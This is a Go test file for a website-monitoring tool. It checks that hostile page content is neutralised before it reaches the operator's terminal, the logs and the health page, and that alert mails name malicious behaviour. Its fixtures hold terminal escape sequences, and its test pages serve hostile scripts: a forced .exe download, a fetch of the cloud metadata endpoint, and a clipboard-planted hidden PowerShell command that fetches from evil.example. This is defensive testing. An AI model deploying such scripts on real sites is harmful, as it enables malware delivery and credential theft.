package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"pasban/alerting/smtp/smtptest"
	"pasban/compare"
	"pasban/monitor"
	"pasban/storage/db"
)

// Here is what pages write onto the terminal of whoever runs pasban: cases 81, 84
// and 86 of the gauntlet.

// nasty is text that clears screens, renames windows, turns lines around, answers
// for the user, and goes on.
var nasty = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\here\u009b31m\u0085\u2028\u2029\u202egnp.exe\u202c\U000e0041 \x7f\x08\r<script>alert(1)</script> " +
	strings.Repeat("پاکستان", 200_000)

// hostileData is a data directory whose records are full of nasty: an attacked
// site, and one that has not been seen for long.
func hostileData(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	store, err := db.Open(t.Context(), filepath.Join(dir, "pasban.db"))
	if err != nil {
		t.Fatal(err)
	}
	ctx, at := t.Context(), time.Now().Add(-time.Hour)
	finding := compare.Finding{Kind: compare.Defacement, Rule: "defacement.title", Severity: compare.Critical, Why: nasty, Evidence: nasty}
	err = store.Update(ctx, func(tx monitor.Tx) error {
		incident, err := tx.AddIncident(ctx, monitor.Incident{
			Site: "court", Target: "court", Kind: compare.Defacement, Severity: compare.Critical, State: monitor.Open, Summary: nasty,
			Opened: at, Updated: at, Findings: []monitor.IncidentFinding{{Finding: finding, Target: "court", Capture: "c", At: at}},
		})
		_, err2 := tx.AddDelivery(ctx, monitor.Delivery{Alert: "1.opened", Incident: incident, Sink: "smtp", Recipient: "x" + nasty, State: monitor.Failed,
			Attempts: []monitor.Attempt{{At: at, Error: nasty}}})
		_, err3 := tx.AddDecision(ctx, monitor.Decision{At: at, Actor: "operator:x", Action: "incident.note", Object: fmt.Sprintf("incident:%d", incident), Reason: nasty})
		return errors.Join(err, err2, err3,
			tx.PutInstitution(ctx, monitor.Institution{ID: "registry", Name: nasty}),
			tx.PutSite(ctx, monitor.Site{ID: "court", Name: nasty, URL: "https://court.example/", Institution: "registry", Schedule: "@hourly"}),
			tx.PutTarget(ctx, monitor.Target{ID: "court", Site: "court", URL: "https://court.example/"}),
			tx.PutFreshness(ctx, monitor.Freshness{Target: "court", LastAttempt: at, Outcome: "error", Reason: nasty, Failures: 9}),
			tx.AddCapture(ctx, monitor.Capture{ID: "c", Target: "court", Site: "court", At: at, Title: nasty, FinalURL: nasty, Detail: nasty, Outcome: "ok"}))
	})
	if err := errors.Join(err, store.Close()); err != nil {
		t.Fatal(err)
	}
	return dir
}

// tame fails for output that does something to a terminal or floods it. what is
// the command that wrote it.
func tame(t *testing.T, what, output string, limit int) {
	t.Helper()
	for _, r := range output {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
			t.Errorf("%s wrote %U to the terminal", what, r)
			break
		}
	}
	if len(output) > limit {
		t.Errorf("%s wrote %d bytes, want at most %d", what, len(output), limit)
	}
}

// Nothing that a page wrote does anything to the terminal it is shown on, in
// sentences or in JSON, which says what was written all the same.
func TestGauntlet81TerminalOfCommands(t *testing.T) {
	dir := hostileData(t)
	for _, args := range [][]string{
		{"incidents", "list"}, {"incidents", "list", "--json"}, {"incidents", "show", "1"}, {"incidents", "show", "1", "--json"},
		{"status"}, {"status", "--json"}, {"sites", "list"}, {"sites", "list", "--json"}, {"baseline", "list"},
		{"incidents", "show", "7" + nasty[:40]}, {"sites", "pause", nasty[:60], "--reason", "x"}, {"sweep", nasty[:60]},
	} {
		what := strings.Join(args[:min(2, len(args))], " ")
		t.Run(what, func(t *testing.T) {
			var out, report bytes.Buffer
			run(t.Context(), append(args, "--data", dir), terminal{&out, &report})
			asJSON := args[len(args)-1] == "--json"
			limit := 20_000
			if asJSON {
				limit = 30 << 20 // JSON is for programs, and leaves nothing out
			}
			tame(t, what, out.String(), limit)
			tame(t, what, report.String(), limit)
			if asJSON && !json.Valid(out.Bytes()) {
				t.Errorf("%.200q is no JSON", out.String())
			}
			if out.Len()+report.Len() == 0 {
				t.Error("nothing was said at all")
			}
		})
	}
	var out bytes.Buffer
	run(t.Context(), []string{"incidents", "show", "1", "--json", "--data", dir}, terminal{&out, io.Discard})
	var line incidentLine
	if err := json.Unmarshal(out.Bytes(), &line); err != nil || len(line.Findings) != 1 || line.Findings[0].Evidence != nasty {
		t.Errorf("the evidence came back as %.80v, %v", line.Findings, err)
	}
}

// The lines of a sweep and of a check, where what was just seen is shown, and the log.
func TestGauntlet81TerminalOfLooks(t *testing.T) {
	event := monitor.Event{Target: "court", Capture: monitor.Capture{
		ID: "c", Title: nasty, FinalURL: nasty, Outcome: "ok", Detail: nasty,
		Report: compare.Report{Verdict: compare.Alert, Why: nasty, Findings: []compare.Finding{{Rule: "defacement.title", Why: nasty, Evidence: nasty}}},
	}}
	target := monitor.Target{ID: "court", Site: "court", URL: "https://court.example/" + nasty}
	for _, asJSON := range []bool{false, true} {
		var out, report bytes.Buffer
		show := newSweepView([]monitor.Target{target}, asJSON, terminal{&out, &report})
		show.explain = true
		show.each(event)
		if err := errors.Join(show.finish(monitor.Swept{Targets: 1, Alerts: 1}), show.done()); err != nil {
			t.Fatal(err)
		}
		limit := 20_000
		if asJSON {
			limit = 30 << 20
		}
		tame(t, "the sweep", out.String(), limit)
		tame(t, "the sweep's report", report.String(), 20_000)
	}
	for _, format := range []string{"text", "json"} {
		var log bytes.Buffer
		c := common{LogFormat: format}
		c.logger(terminal{io.Discard, &log}).Warn("a page says "+nasty[:80], "title", nasty[:80], "error", errors.New(nasty[:80]))
		tame(t, "the log as "+format, log.String(), 20_000)
	}
	var failure bytes.Buffer
	report(fmt.Errorf("first %s\nsecond %w", nasty, errors.New(nasty)), terminal{io.Discard, &failure})
	tame(t, "an error", failure.String(), 40_000)
	if strings.Count(failure.String(), "\n") != 2 {
		t.Errorf("an error of two lines was written as %.200q", failure.String())
	}
}

// JSON that went through the escapes is the same JSON.
func FuzzEscapeJSON(f *testing.F) {
	for _, s := range []string{nasty[:200], "", "\\u202e", "😀\U000e0041", "\xff", `"`, "\u2028"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		want, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		var a, b string
		escaped := escapeJSON(want)
		if err := errors.Join(json.Unmarshal(want, &a), json.Unmarshal(escaped, &b)); err != nil || a != b {
			t.Errorf("%q became %q, %v", a, b, err)
		}
		tame(t, "escapeJSON", string(escaped), len(want)*6)
	})
}

// healthPage serves the health page of a data directory.
func healthPage(t *testing.T, dir string) http.Handler {
	t.Helper()
	c := common{Data: dir}
	h, err := openHealth(t.Context(), &c)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := h.Close(); err != nil {
			t.Error(err)
		}
	})
	return healthHandler(h)
}

func openHealth(ctx context.Context, c *common) (*house, error) {
	store, err := db.Open(ctx, filepath.Join(c.Data, "pasban.db"))
	if err != nil {
		return nil, err
	}
	m, err := monitor.New(monitor.Config{Store: store, Blobs: noBlobs{}})
	return &house{Monitor: m, closers: []io.Closer{store}}, err
}

// noBlobs is storage that is never asked.
type noBlobs struct{ monitor.Blobs }

// A page in an analyst's browser can neither change anything by way of the health
// page nor read, frame or run it.
func TestGauntlet86HealthPageIsReadOnly(t *testing.T) {
	page := healthPage(t, hostileData(t))
	for _, path := range []string{"/healthz", "/status"} {
		for _, method := range []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT"} {
			r := httptest.NewRequestWithContext(t.Context(), method, path, http.NoBody)
			r.Header.Set("Origin", "https://evil.example")
			r.Header.Set("Access-Control-Request-Method", "POST")
			w := httptest.NewRecorder()
			page.ServeHTTP(w, r)
			want := http.StatusMethodNotAllowed
			if method == "GET" || method == "HEAD" {
				want = http.StatusOK
			}
			if w.Code != want {
				t.Errorf("%s %s: %d, want %d", method, path, w.Code, want)
			}
			for name := range w.Header() {
				if strings.HasPrefix(name, "Access-Control-") || name == "Set-Cookie" {
					t.Errorf("%s %s answers with %s", method, path, name)
				}
			}
			for name, value := range map[string]string{
				"X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'; sandbox",
				"Cross-Origin-Resource-Policy": "same-origin", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store",
			} {
				if got := w.Header().Get(name); got != value {
					t.Errorf("%s %s: %s is %q, want %q", method, path, name, got, value)
				}
			}
			if kind := w.Header().Get("Content-Type"); !strings.HasPrefix(kind, "text/plain") && kind != "application/json" {
				t.Errorf("%s %s is %q", method, path, kind)
			}
		}
	}
}

// What pages made of the records does nothing to a terminal that shows the status
// page, and is the same text for a program.
func TestGauntlet84StatusPage(t *testing.T) {
	w := httptest.NewRecorder()
	healthPage(t, hostileData(t)).ServeHTTP(w, httptest.NewRequestWithContext(t.Context(), "GET", "/status", http.NoBody))
	tame(t, "/status", w.Body.String(), 30<<20)
	var status monitor.Status
	if err := json.Unmarshal(w.Body.Bytes(), &status); err != nil || len(status.Blind) != 1 || status.Blind[0].Reason != strings.ReplaceAll(nasty, "\x00", "\ufffd") {
		t.Errorf("the blind spot is told as %+.100v, %v", status.Blind, err)
	}
}

// conducts are what three pages begin to do one day, without looking any different,
// and what the mail about each must name, written so that nobody opens it.
var conducts = []struct{ site, address, script, named string }{
	{"hands-out", "127.94.1.1", `const a = document.createElement("a"); a.download = "fatima-update.exe"
a.href = URL.createObjectURL(new Blob(["MZ"], { type: "application/x-msdownload" })); a.click()`, "fatima-update[.]exe"},
	{"reaches", "127.94.2.1", `fetch("http://169.254.169.254/latest/meta-data/iam/", { mode: "no-cors" }).catch(() => {})`, "169[.]254[.]169[.]254"},
	{"pastes", "127.94.3.1", `navigator.clipboard.writeText("powershell -w hidden -c iwr evil.example").catch(() => {})`, "powershell -w hidden"},
}

// What pages begin to do behind an unchanged look goes all the way from Chrome to a
// mail, which names it: a file they hand out, an address inside that they reach
// for, a command that they put into the clipboard.
func TestNewConductIsMailed(t *testing.T) {
	var attacked atomic.Bool
	list := "site_id,url,name\n"
	for _, c := range conducts {
		list += c.site + "," + startAt(t, c.address, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, "<!doctype html><html lang=en><title>Office of Fixtures</title><h1>Office of Fixtures</h1>",
				"<p>The office is open from nine to five. Forms are at the counter, and the notice board is by the door.</p>")
			if attacked.Load() {
				fmt.Fprintf(w, "<script>%s</script>", c.script)
			}
		})) + "/,Office\n"
	}
	mail, err := smtptest.Start(t.Context(), "127.0.0.1:0", smtptest.Options{})
	if err != nil {
		t.Fatal(err)
	}
	sweep := sweeper(t, list, mail.URL())
	if report := sweep(0); len(mail.Mails()) > 0 {
		t.Fatalf("%d mails about ordinary pages:\n%s", len(mail.Mails()), report)
	}
	attacked.Store(true)
	report := sweep(exitAlert)
	mails := mail.Mails()
	if len(mails) != len(conducts) {
		t.Errorf("%d mails, want one for each of %d sites:\n%s", len(mails), len(conducts), report)
	}
	for _, c := range conducts {
		if !slices.ContainsFunc(mails, func(m smtptest.Mail) bool {
			return strings.Contains(m.Text, strings.ReplaceAll(c.address, ".", "[.]")) && strings.Contains(m.Text, c.named) &&
				strings.HasPrefix(m.Subject, "[TLP:") && len(m.Pictures) > 0
		}) {
			t.Errorf("no mail about %s names %q", c.site, c.named)
		}
	}
	if t.Failed() {
		for _, m := range mails {
			t.Logf("%s\n%s", m.Subject, m.Text)
		}
	}
}

// sweeper is the real binary over a data directory of its own: each call sweeps the
// sites of a list once, insists on an exit code and returns what was said. It takes
// more flags.
func sweeper(t *testing.T, list, mail string) func(exit int, flags ...string) string {
	t.Helper()
	profiles, err := profileFolder()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if left := leftovers(profiles); len(left) > 0 {
			t.Errorf("left behind: %q", left)
		}
		if err := os.RemoveAll(profiles); err != nil {
			t.Error(err)
		}
	})
	dir := t.TempDir()
	file := filepath.Join(dir, "list.csv")
	if err := os.WriteFile(file, []byte(list), 0o600); err != nil {
		t.Fatal(err)
	}
	return func(want int, flags ...string) string {
		t.Helper()
		cmd := exec.CommandContext(t.Context(), "pasban", "sweep", "--watchlist", file, "--data", filepath.Join(dir, "data"),
			"--smtp", mail, "--from", "pasban@cert.example", "--cert", "cert@cert.example")
		cmd.Args = append(cmd.Args, flags...)
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "TMPDIR=" + profiles, "PASBAN_EGRESS_ALLOW=127.0.0.0/8"}
		said, err := cmd.CombinedOutput()
		if got, err := exitCode(err); err != nil || got != want {
			t.Fatalf("the sweep ended with %d, %v, want %d:\n%s", got, err, want, said)
		}
		return string(said)
	}
}
